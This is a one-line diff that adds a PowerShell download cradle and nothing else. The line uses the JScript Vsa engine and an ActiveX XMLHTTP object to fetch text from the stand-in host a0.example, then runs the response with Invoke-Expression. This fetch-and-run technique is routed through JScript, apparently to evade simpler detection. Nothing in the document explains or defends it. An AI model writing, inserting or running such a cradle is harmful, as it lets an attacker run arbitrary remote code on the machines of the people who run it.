@@ -1,0 +1,1 @@
+[Reflection.Assembly]::LoadWithPartialName('Microsoft.JScript')|Out-Null;$js='var x=new ActiveXObject("MSXML2.XMLHTTP");x.open("GET","http://a0.example/p.txt",0);x.send();x.responseText';$vsa=[Microsoft.JScript.Vsa.VsaEngine]::CreateEngine();iex([Microsoft.JScript.Eval]::JScriptEvaluate($js,$vsa))
